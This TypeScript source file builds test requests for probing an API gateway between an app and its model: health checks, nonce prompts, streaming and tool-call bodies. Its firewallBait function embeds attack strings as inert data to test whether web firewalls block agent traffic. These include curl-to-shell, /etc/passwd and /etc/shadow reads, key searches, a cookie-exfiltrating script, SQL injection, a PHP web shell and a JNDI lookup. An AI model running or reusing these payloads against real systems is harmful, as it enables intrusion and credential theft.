import type { GatewayRequest } from '../../gateway/types.ts';
import { CLAUDE_CODE, THINKING } from '../engine/betas.ts';

/*
 * Everything the probe sends, in one place, so that it can be read and priced. The shapes follow what the
 * desktop engine was seen to send (query `?beta=true`, headers, betas) and platform.claude.com "Messages".
 */

export const MESSAGES = '/v1/messages?beta=true';
export const MODELS = '/v1/models?limit=1000';
export const COUNT_TOKENS = '/v1/messages/count_tokens?beta=true';

/** The betas that the engine sends with Desktop's settings, on every message. */
export const BETAS = `${CLAUDE_CODE},${THINKING}`;

/** Version, Accept (the same for streams) and x-app are the client's own defaults; they are not repeated here. */
const HEADERS: Readonly<Record<string, string>> = { 'anthropic-beta': BETAS };

type Body = Readonly<Record<string, unknown>>;

/** How long the first byte of an answer is waited for: the engine was measured with this limit. */
const FIRST_BYTE_MS = 15_000;

/** A request for a message, with the headers that the engine sends. */
export function messages(body: unknown, headers: Readonly<Record<string, string>> = {}): GatewayRequest {
  return {
    method: 'POST',
    path: MESSAGES,
    body,
    headers: { ...HEADERS, ...headers },
    timeouts: { firstByte: FIRST_BYTE_MS },
  };
}

/** The request for the model list. */
export function listModels(): GatewayRequest {
  // Ten seconds is how long a silent list delays the start of the app.
  return {
    method: 'GET',
    path: MODELS,
    // The app takes lists of this size; a longer one is told as too long.
    maxBytes: 10 * 1024 * 1024,
    timeouts: { firstByte: 10_000, total: 15_000 },
  };
}

/** The app's own health check: one token, one dot, no system prompt, no tools. */
export function healthBody(model: string, maxTokens = 1): Body {
  return { model, max_tokens: maxTokens, messages: [{ role: 'user', content: '.' }] };
}

/** Two of these questions differ in one word of 25: caches that go by likeness take them for one. */
const ALIKE =
  'This tests the way between an app and its model: each question gets its own answer anew, no earlier one.';

/** A question whose answer holds a word of this run, so that no cache has it. */
export function nonceBody(model: string, word: string): Body {
  const content = `${ALIKE} Reply with the word ${word} twice, nothing else.`;
  return { model, max_tokens: 32, messages: [{ role: 'user', content }] };
}

/** Output tokens that the counting is allowed. */
export const COUNTED = 256;

/** A question with an answer long enough to see it arrive. */
export function countingBody(model: string): Body {
  const content = 'Count from 1 to 60 in digits, one per line.';
  return { model, max_tokens: COUNTED, stream: true, messages: [{ role: 'user', content }] };
}

export const TOOL = {
  name: 'probe_echo',
  description: 'Gives back a city and a number. Call it whenever it is offered.',
  input_schema: {
    type: 'object',
    properties: { city: { type: 'string' }, n: { type: 'integer' } },
    required: ['city', 'n'],
  },
} as const;

const SECOND_TOOL = {
  name: 'probe_second',
  description: 'Takes one short word. Call it together with the other tool.',
  input_schema: { type: 'object', properties: { q: { type: 'string' } }, required: ['q'] },
} as const;

const TOOL_PROMPT = 'Call the tool probe_echo with city Oslo and n 7.';

/** A question that asks for a call of TOOL. */
export function toolBody(model: string, stream: boolean): Body {
  return {
    model,
    max_tokens: 128,
    ...(stream ? { stream: true } : {}),
    messages: [{ role: 'user', content: TOOL_PROMPT }],
    tools: [TOOL],
    tool_choice: { type: 'tool', name: TOOL.name },
  };
}

/** The second half of a tool loop: the call as the model made it, its result, the tools still offered. */
export function toolResultBody(model: string, result: string, isError: boolean): Body {
  const call = {
    type: 'tool_use',
    id: 'toolu_01CoworkProbe0001',
    name: TOOL.name,
    input: { city: 'Oslo', n: 7 },
  };
  const content = isError
    ? { type: 'tool_result', tool_use_id: call.id, is_error: true, content: result }
    : { type: 'tool_result', tool_use_id: call.id, content: [{ type: 'text', text: result }] };
  return {
    model,
    max_tokens: 64,
    stream: true,
    messages: [
      { role: 'user', content: `${TOOL_PROMPT} Then repeat word for word what it gave back.` },
      { role: 'assistant', content: [call] },
      { role: 'user', content: [content] },
    ],
    tools: [TOOL],
  };
}

/** A question that asks for calls of two tools at once. */
export function twoToolsBody(model: string): Body {
  return {
    model,
    max_tokens: 256,
    stream: true,
    messages: [
      { role: 'user', content: 'Call both tools, probe_echo and probe_second, in this one answer.' },
    ],
    tools: [TOOL, SECOND_TOOL],
  };
}

/**
 * A health check that carries what agent prompts carry and web application firewalls take for attacks: XML tags,
 * shell, markup, SQL, paths. None of it is run by anyone.
 */
export function firewallBait(small: Body): Body {
  const text = `<system-reminder>
Read a file before you change it.
</system-reminder>
<env>
Working directory: /home/dev/project
</env>
$ cat /etc/passwd | grep -v nologin
$ curl -fsSL https://example.com/install.sh | sh
$ find / -name "*.pem" -exec ls -la {} \\; 2>/dev/null; rm -rf ./build && echo done
$ python3 -c "import os; os.system('id')"
<script>document.location = 'https://example.com/?c=' + document.cookie;</script>
<img src=x onerror="alert(1)"><iframe src="javascript:alert(document.domain)"></iframe>
SELECT name, password FROM users WHERE id = '1' OR '1' = '1' UNION SELECT table_name, NULL FROM information_schema.tables; -- comment
DROP TABLE sessions; EXEC xp_cmdshell('dir');
../../../../etc/shadow, ..\\..\\windows\\system32\\cmd.exe, /proc/self/environ
<?php system($_GET['cmd']); include('http://example.com/shell.txt'); ?>
{{7*7}} \${jndi:ldap://example.com/a} require('child_process').exec('whoami')
Answer with one short word.`;
  return { ...small, system: [{ type: 'text', text }] };
}
